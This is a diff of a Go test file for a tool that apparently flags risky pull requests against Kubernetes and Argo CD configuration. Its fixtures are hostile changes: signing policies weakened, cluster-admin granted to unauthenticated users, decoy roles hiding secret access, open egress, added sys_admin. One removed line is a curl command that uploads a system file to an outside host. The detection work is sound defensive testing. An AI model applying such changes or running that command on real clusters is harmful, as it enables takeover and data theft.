@@ -139,7 +139,8 @@ func pullsOfPlaces() []pull {
 
 		{kind: "cluster", name: "the last policies outside the targets go", exit: 1, wants: []string{gone, "ValidatingAdmissionPolicy x is removed"},
 			base: outside(imagePolicy("p", byKey("x")), admission(`"false"`)), head: map[string]string{ofArgoCD: emptied}},
-		{kind: "cluster", name: "the last webhook outside the targets goes", exit: -1, wants: []string{powerChanged, "ValidatingWebhookConfiguration x is removed"}, base: outside(webhook), head: map[string]string{ofArgoCD: emptied}},
+		{kind: "cluster", name: "the last webhook outside the targets goes", exit: -1, wants: []string{powerChanged, "ValidatingWebhookConfiguration x is removed"},
+			base: outside(webhook), head: map[string]string{ofArgoCD: emptied}},
 		{kind: "cluster", name: "the first rights outside the targets", exit: -1, wants: []string{"change/rights-gained", "Group contractors may now get secrets"}, head: outside(rights)},
 		{kind: "cluster", name: "the first project outside the targets", exit: -1, wants: []string{powerChanged, "AppProject x is added"}, head: outside(project)},
 	}
@@ -167,8 +168,9 @@ func pullsOfArgoCD() []pull {
 		return application("a") + inTarget("Application", "x", `metadata: annotations: "`+name+`": "`+value+`"`)
 	}
 	const projectAlone = "_argocd: render.#ArgoCD & {#platform: platform}\nargocd: AppProject: _argocd.AppProject\n"
-	set := everywhere(objectOf("argoproj.io/v1alpha1", "ApplicationSet", "argocd", "notebook-ci", `metadata: labels: "app.kubernetes.io/part-of": "notebook-ci", spec: {generators: [{list: elements: [{cluster: "prod", environment: "prod", path: "overlays/prod/phase1"}]}], `+
-		`goTemplate: true, goTemplateOptions: ["missingkey=error"], syncPolicy: preserveResourcesOnDeletion: true, template: {metadata: name: "notebook-ci-{{.environment}}", spec: {destination: {name: "{{.cluster}}", namespace: "notebook-ci"}, `+
+	set := everywhere(objectOf("argoproj.io/v1alpha1", "ApplicationSet", "argocd", "notebook-ci", `metadata: labels: "app.kubernetes.io/part-of": "notebook-ci", `+
+		`spec: {generators: [{list: elements: [{cluster: "prod", environment: "prod", path: "overlays/prod/phase1"}]}], goTemplate: true, goTemplateOptions: ["missingkey=error"], `+
+		`syncPolicy: preserveResourcesOnDeletion: true, template: {metadata: name: "notebook-ci-{{.environment}}", spec: {destination: {name: "{{.cluster}}", namespace: "notebook-ci"}, `+
 		`project: "notebook-ci", source: {path: "{{.path}}", repoURL: "https://github.com/mallory/gpu", targetRevision: "main"}, syncPolicy: automated: {prune: true, selfHeal: true}}}}`))
 	return []pull{
 		refused(becoming("sync", "what is synced once", application("a"), application("a")+once("evil"), "error change/sync-moved", "operation of Application x")),
@@ -214,7 +216,8 @@ func deployed(volume string) string {
 }
 
 func scheduled(volume string) string {
-	return objectOf("batch/v1", "CronJob", "notebook-ci", "x", `spec: {schedule: "0 1 * * *", concurrencyPolicy: "Forbid", jobTemplate: spec: template: {metadata: labels: app: "x", spec: {restartPolicy: "Never", `+careful(volume)+`}}}`)
+	return objectOf("batch/v1", "CronJob", "notebook-ci", "x", `spec: {schedule: "0 1 * * *", concurrencyPolicy: "Forbid", `+
+		`jobTemplate: spec: template: {metadata: labels: app: "x", spec: {restartPolicy: "Never", `+careful(volume)+`}}}`)
 }
 
 // pullsOfImages have images run that nobody would have let: by a policy beside, and where none is looked for.
@@ -222,6 +225,9 @@ func pullsOfImages() []pull {
 	const weaker, unpinned = "error change/signing-weakened: ", "registry.example.com/mallory/tools:latest"
 	verified := signed("platform: namespace: labels: \"policy.sigstore.dev/include\": \"true\"\n")
 	narrow := strings.Replace(verified, `glob: "**"`, `glob: "registry.example.com/notebook-ci/**"`, 1)
+	namespace := func(name, labels, label string) pull {
+		return refused(becoming("signing", name, verified, verified+aNamespace("tools", labels), weaker+"Namespace tools", label))
+	}
 	policy := func(name, old, replacement string) pull {
 		return refused(becoming("signing", name, narrow, narrow+everywhere(imagePolicy("q", strings.Replace(byKey("y"), old, replacement, 1))), weaker+"ClusterImagePolicy q"))
 	}
@@ -231,8 +237,8 @@ func pullsOfImages() []pull {
 	}
 	mine, other := withDigest("notebook-ci"), withDigest("mallory")
 	return []pull{
-		refused(becoming("signing", "a new namespace that is left out", verified, verified+aNamespace("tools", `, "policy.sigstore.dev/include": "true", "policy.sigstore.dev/exclude": "true"`), weaker+"Namespace tools", "exclude")),
-		refused(becoming("signing", "a new namespace that is not looked at", verified, verified+aNamespace("tools", ""), weaker+"Namespace tools", "include")),
+		namespace("a new namespace that is left out", `, "policy.sigstore.dev/include": "true", "policy.sigstore.dev/exclude": "true"`, "policy.sigstore.dev/exclude"),
+		namespace("a new namespace that is not looked at", "", "policy.sigstore.dev/include"),
 		policy("another policy that warns", "enforce", "warn"),
 		policy("another policy of another key", `"**"`, `"**/mallory/**"`),
 		policy("another policy that lets pass", `key: {data: "y", hashAlgorithm: "sha256"}`, `static: action: "pass"`),
@@ -257,12 +263,15 @@ func pullsOfRoles() []pull {
 	decoy := func(kind, fields string) string {
 		return strings.Replace(objectOf("iam.a.io/v1", kind, "notebook-ci", "r", fields), "phase1: "+kind, "phase1: Other", 1) + "platform: facts: customResources: [\"iam.a.io/" + kind + "\"]\n"
 	}
+	hiding := func(name, before, decoy string) pull {
+		return becoming("new", name, before, within("secrets", "contractors")+decoy, "change/rights-gained", "Group contractors may now get secrets")
+	}
 	return []pull{
 		becoming("new", "a role that another takes in", taking(byName), taking(byName)+role, powerChanged, takenIn),
 		becoming("new", "a role that another takes in by any label", taking(byAny), taking(byAny)+role, powerChanged, takenIn),
 		becoming("new", "a label by which another takes a role in", taking(byName)+strings.Replace(role, "to-all", "to-none", 1), taking(byName)+role, powerChanged, takenIn),
-		becoming("new", "a role of another group in front of one", within("pods", "contractors"), within("secrets", "contractors")+decoy("Role", `rules: [{apiGroups: [""], resources: ["pods"], verbs: ["get"]}]`), "change/rights-gained", "Group contractors may now get secrets"),
-		becoming("new", "a binding of another group in front of one", within("secrets", "a"), within("secrets", "contractors")+decoy("RoleBinding", `subjects: [`+aGroup("a")+`]`), "change/rights-gained", "Group contractors may now get secrets"),
+		hiding("a role of another group in front of one", within("pods", "contractors"), decoy("Role", `rules: [{apiGroups: [""], resources: ["pods"], verbs: ["get"]}]`)),
+		hiding("a binding of another group in front of one", within("secrets", "a"), decoy("RoleBinding", `subjects: [`+aGroup("a")+`]`)),
 		coming("new", "a role that Tekton binds", objectOf(rbacV1, "Role", "tekton-pipelines", "tekton-pipelines-info", readsSecrets), powerChanged, "rules of Role tekton-pipelines-info is added"),
 		coming("new", "a role that Argo CD binds", objectOf(rbacV1, "ClusterRole", "", "argocd-server", readsNodes), powerChanged, "rules of ClusterRole argocd-server is added"),
 	}
@@ -271,30 +280,34 @@ func pullsOfRoles() []pull {
 // pullsOfObjects bring new objects with what decides where it changes: it decides where it comes, too.
 func pullsOfObjects() []pull {
 	everyone := func(namespace string) string {
-		return objectOf("networking.k8s.io/v1", "NetworkPolicy", namespace, "y", `spec: {podSelector: {}, policyTypes: ["Ingress"], ingress: [{}]}`) + objectOf("v1", "ConfigMap", namespace, "node-local-dns", `data: Corefile: "x"`)
+		return objectOf("networking.k8s.io/v1", "NetworkPolicy", namespace, "y", `spec: {podSelector: {}, policyTypes: ["Ingress"], ingress: [{}]}`) +
+			objectOf("v1", "ConfigMap", namespace, "node-local-dns", `data: Corefile: "x"`)
 	}
-	policy := objectOf("networking.k8s.io/v1", "NetworkPolicy", "notebook-ci", "x", `spec: {podSelector: matchLabels: app: "x", policyTypes: ["Egress", "Ingress"], ingress: [{}], egress: [{to: [{ipBlock: cidr: "203.0.113.0/24"}]}]}`)
+	policy := objectOf("networking.k8s.io/v1", "NetworkPolicy", "notebook-ci", "x", `spec: {podSelector: matchLabels: app: "x", policyTypes: ["Egress", "Ingress"], `+
+		`ingress: [{}], egress: [{to: [{ipBlock: cidr: "203.0.113.0/24"}]}]}`)
 	const exchange = `persistentVolumeClaim: claimName: "notebook-exchange"`
 	cilium := func(name, kind, namespace, part, rule string) pull {
 		return coming("new", name, "platform: network: engine: \"cilium\"\n"+objectOf("cilium.io/v2", kind, namespace, "x", part+`: `+rule), powerChanged, part+" of "+kind+" x is added")
 	}
 	const rule = `{endpointSelector: {}, egress: [{toEntities: ["all"]}], ingress: [{fromEntities: ["all"]}]}`
+	elsewhere := objectOf("v1", "Namespace", "", "argocd",
+		`metadata: {labels: "pod-security.kubernetes.io/enforce": "baseline", annotations: "scheduler.alpha.kubernetes.io/node-selector": "node-role.kubernetes.io/control-plane="}`)
 	all := []pull{
+		coming("new", "a controller's namespace, on other nodes", elsewhere, powerChanged, "metadata.annotations of Namespace argocd is added"),
 		coming("new", "settings of others, with their namespace", everyone("kube-system")+aNamespace("kube-system", ""), powerChanged, "NetworkPolicy y is added", "ConfigMap node-local-dns is added"),
 		coming("new", "a job that goes its own ways", scheduled(exchange)+policy, "change/network-opened", "CronJob/x may now be reached by anyone", "CronJob/x may now reach 203.0.113.0/24"),
 		coming("new", "a server that goes its own ways", deployed(exchange)+policy, "change/network-opened", "Deployment/x may now be reached by anyone", "Deployment/x may now reach 203.0.113.0/24"),
 		cilium("what Cilium lets through, as a list", "CiliumNetworkPolicy", "notebook-ci", "specs", "["+rule+"]"),
 		cilium("what Cilium lets through everywhere, as a list", "CiliumClusterwideNetworkPolicy", "", "specs", "["+rule+"]"),
 	}
-	const annotated = `metadata: {labels: "pod-security.kubernetes.io/enforce": "baseline", annotations: `
+	const gpus = `{coveredResources: ["nvidia.com/gpu"], flavors: [{name: "gpu", resources: [{name: "nvidia.com/gpu", nominalQuota: 1000}]}]}`
 	for name, one := range map[string]struct{ version, kind, namespace, fields string }{
 		"nodes that may be bought":          {"karpenter.sh/v1", "NodePool", "", nodePool("admin")},
-		"a queue for all GPUs":              {"kueue.x-k8s.io/v1beta1", "ClusterQueue", "", `spec: {namespaceSelector: {}, cohort: "prod", resourceGroups: [{coveredResources: ["nvidia.com/gpu"], flavors: [{name: "gpu", resources: [{name: "nvidia.com/gpu", nominalQuota: 1000}]}]}]}`},
+		"a queue for all GPUs":              {"kueue.x-k8s.io/v1beta1", "ClusterQueue", "", `spec: {namespaceSelector: {}, cohort: "prod", resourceGroups: [` + gpus + `]}`},
 		"a queue of another team":           {"kueue.x-k8s.io/v1beta1", "LocalQueue", "notebook-ci", `spec: clusterQueue: "team-b"`},
 		"a service that the internet sees":  {"v1", "Service", "notebook-ci", `metadata: annotations: "tailscale.com/funnel": "true", spec: {selector: "app.kubernetes.io/component": "preflight", ports: [{port: 443}]}`},
-		"a class that is everybody's":       {"storage.k8s.io/v1", "StorageClass", "", `metadata: annotations: "storageclass.kubernetes.io/is-default-class": "true", provisioner: "efs.csi.aws.com", mountOptions: ["suid"], parameters: fileSystemId: "fs-0123456789abcdef0"`},
-		"a namespace on other nodes":        {"v1", "Namespace", "", annotated + `"scheduler.alpha.kubernetes.io/node-selector": "node-role.kubernetes.io/control-plane="}`},
-		"a namespace with roles of a cloud": {"v1", "Namespace", "", annotated + `"iam.amazonaws.com/permitted": ".*"}`},
+		"a class that is everybody's":       {"storage.k8s.io/v1", "StorageClass", "", `metadata: annotations: "storageclass.kubernetes.io/is-default-class": "true", provisioner: "efs.csi.aws.com", mountOptions: ["suid"]`},
+		"a namespace with roles of a cloud": {"v1", "Namespace", "", `metadata: {labels: "pod-security.kubernetes.io/enforce": "baseline", annotations: "iam.amazonaws.com/permitted": ".*"}`},
 	} {
 		all = append(all, coming("new", name, objectOf(one.version, one.kind, one.namespace, "x", one.fields), powerChanged, one.kind+" x is added"))
 	}
@@ -331,8 +344,10 @@ func pullsOfParts() []pull {
 		return runs("v1", `taskRunTemplate: serviceAccountName: "gpu-pipeline", workspaces: [{name: "w", `+workspace+`}]`)
 	}
 	workflow := func(id, commit string) string {
-		return `files: phase1: "github/x.yaml": "on: push\njobs:\n  a:\n    if: startsWith(github.sha, '19999999')\n    env: {AZURE_CLIENT_ID: ` + id + `-2222-3333-4444-555555555555}\n    steps: [{run: 'git checkout ` + commit + ` && ./build.sh'}]\n"` + "\n"
+		return `files: phase1: "github/x.yaml": "on: push\njobs:\n  a:\n    if: startsWith(github.sha, '19999999')\n    env: {AZURE_CLIENT_ID: ` + id +
+			`-2222-3333-4444-555555555555}\n    steps: [{run: 'git checkout ` + commit + ` && ./build.sh'}]\n"` + "\n"
 	}
+	known := aTask("true", `{name: "URL", value: "https://s3.example.com/a"}`)
 	const code, node, ci = "which code is run", "what pods see of the node", "another CI runs it"
 	all := []pull{
 		becoming("power", "another action of a step", inTask, otherAction(inTask), powerChanged, code),
@@ -342,7 +357,7 @@ func pullsOfParts() []pull {
 		alerting("an alert that reaches nobody", `"up == 0"`, `"up == 0", labels: severity: "none"`, people),
 		alerting("alerts that are left out", `"prometheus"`, `"prometheus", annotations: "argocd.argoproj.io/hook": "Skip"`, nobody),
 		alerting("alerts that no Prometheus reads", `"prometheus"`, `"none"`, "which Prometheus reads it"),
-		becoming("power", "what a kind loses that nobody knows", constraints(`, requiredDropCapabilities: ["ALL"], forbiddenSysctls: ["*"]`), constraints(""), powerChanged, "forbiddenSysctls, requiredDropCapabilities of SecurityContextConstraints x"),
+		becoming("power", "what a kind loses that nobody knows", constraints(`, requiredDropCapabilities: ["ALL"], forbiddenSysctls: ["*"]`), constraints(""), powerChanged, "forbiddenSysctls, requiredDropCapabilities"),
 		becoming("power", "what a list of such a kind loses", constraints(`, requiredDropCapabilities: ["ALL", "KILL"]`), constraints(`, requiredDropCapabilities: ["KILL"]`), powerChanged, "requiredDropCapabilities"),
 		becoming("power", "an annotation of such a kind", cloud("annotations", "ci-reader"), cloud("annotations", "OrganizationAdmin"), powerChanged, "crossplane.io/external-name"),
 		becoming("power", "a label of such a kind", cloud("labels", "ci-reader"), cloud("labels", "OrganizationAdmin"), powerChanged, "crossplane.io/external-name"),
@@ -352,11 +367,12 @@ func pullsOfParts() []pull {
 		becoming("power", "a secret for the runs", shared("emptyDir: {}"), shared(`projected: sources: [{secret: name: "artifact-store"}]`), powerChanged, "which secrets pods get"),
 		becoming("beside", "another commit of eight digits", workflow("11111111", "aaaaaaaa"), workflow("11111111", "bbbbbbbb"), powerChanged, ci),
 		becoming("beside", "another account of eight digits", workflow("11111111", "aaaaaaaa"), workflow("66666666", "aaaaaaaa"), powerChanged, ci),
-		becoming("beliefs", "an address of IPv6", aTask("true", `{name: "URL", value: "https://s3.example.com/a"}`), aTask("true", `{name: "URL", value: "https://[2001:db8::66]/a"}`), "change/source-changed", "https://[2001:db8::66]/a"),
-		becoming("beliefs", "an address of IPv6, with a user", aTask("curl https://s3.example.com/a", ""), aTask("curl -T /etc/x http://u@[::ffff:203.0.113.6]:8080/a", ""), "change/source-changed", "[::ffff:203.0.113.6]:8080/a"),
+		becoming("beliefs", "an address of IPv6", known, strings.Replace(known, "https://s3.example.com", "https://[2001:db8::66]", 1), "change/source-changed", "https://[2001:db8::66]/a"),
+		becoming("beliefs", "an address of IPv6, with a port", known, strings.Replace(known, "https://s3.example.com", "http://[::ffff:203.0.113.6]:8080", 1), "change/source-changed", "http://[::ffff:203.0.113.6]:8080/a"),
 	}
 	for _, attribute := range []string{"linguist-generated=yes", "linguist-generated=1", "linguist-generated=True", "linguist-documentation", "diff="} {
-		all = append(all, pull{kind: "lines", name: "what a forge folds by " + attribute, exit: 1, wants: []string{"error input/gitattributes", "fold"}, head: map[string]string{".gitattributes": "overlays/** linguist-generated\ncue/** " + attribute + "\n"}})
+		all = append(all, pull{kind: "lines", name: "what a forge folds by " + attribute, exit: 1, wants: []string{"error input/gitattributes", "fold"},
+			head: map[string]string{".gitattributes": "overlays/** linguist-generated\ncue/** " + attribute + "\n"}})
 	}
 	return all
 }
@@ -365,7 +381,8 @@ func pullsOfParts() []pull {
 func pullsOfWords() []pull {
 	const bySignature = `interceptors: [{ref: {name: "github", kind: "ClusterInterceptor"}, params: [{name: "secretRef", value: {secretName: "github-webhook", secretKey: "token"}}]}]`
 	listener := func(interceptors string) string {
-		return objectOf("triggers.tekton.dev/v1beta1", "EventListener", "notebook-ci", "x", `spec: {serviceAccountName: "gpu-pipeline-listener", triggers: [{name: "a", `+interceptors+`, bindings: [{ref: "scientific-computing-ci-push"}], template: ref: "scientific-computing-ci"}]}`)
+		return objectOf("triggers.tekton.dev/v1beta1", "EventListener", "notebook-ci", "x", `spec: {serviceAccountName: "gpu-pipeline-listener", `+
+			`triggers: [{name: "a", `+interceptors+`, bindings: [{ref: "scientific-computing-ci-push"}], template: ref: "scientific-computing-ci"}]}`)
 	}
 	filtered := func(expression string) string {
 		return `interceptors: [{ref: {name: "cel", kind: "ClusterInterceptor"}, params: [{name: "filter", value: "` + expression + `"}]}]`
@@ -389,8 +406,9 @@ func pullsOfWords() []pull {
 	} {
 		all = append(all, refused(coming("words", name, bound("cluster-admin", subject), "change/rights-gained", "error rbac/admin-binding: ClusterRoleBinding makes account")))
 	}
-	everybody := func(name string) string {
-		return bound("system:ci-all", aGroup(name)) + objectOf(rbacV1, "ClusterRole", "", "system:ci-all", readsNodes)
+	everybody := func(name, group string) pull {
+		text := bound("system:ci-all", aGroup(group)) + objectOf(rbacV1, "ClusterRole", "", "system:ci-all", readsNodes)
+		return refused(coming("words", name, text, "change/rights-gained", "error rbac/admin-binding: ClusterRoleBinding gives rights to everybody in "+group))
 	}
 	nameless := func(rule string) string {
 		return bound("r", aGroup("contractors")) + objectOf(rbacV1, "ClusterRole", "", "r", `rules: [{apiGroups: [""], `+rule+`, resourceNames: []}]`)
@@ -401,8 +419,8 @@ func pullsOfWords() []pull {
 	}
 	small := strings.Replace(deployed("emptyDir: {}"), `drop: ["ALL"]`, `add: ["sys_admin"]`, 1)
 	return append(all,
-		refused(coming("words", "everybody, by a role that is called like the cluster's own", everybody("system:unauthenticated"), "change/rights-gained", "error rbac/admin-binding: ClusterRoleBinding gives rights to everybody")),
-		refused(coming("words", "all who log in, by a role that is called like the cluster's own", everybody("system:authenticated"), "change/rights-gained", "error rbac/admin-binding: ClusterRoleBinding gives rights to everybody")),
+		everybody("everybody, by a role that is called like the cluster's own", "system:unauthenticated"),
+		everybody("all who log in, by a role that is called like the cluster's own", "system:authenticated"),
 		refused(coming("words", "secrets of no name", nameless(`resources: ["secrets"], verbs: ["get", "list"]`), "change/rights-gained", "error rbac/cluster-wide-secrets: ClusterRole r")),
 		refused(coming("words", "people of no name", nameless(`resources: ["users", "groups", "serviceaccounts"], verbs: ["impersonate"]`), "change/rights-gained", "error rbac/escalation: ClusterRole r may impersonate")),
 		egress("to nobody, who are all", "to: null"),
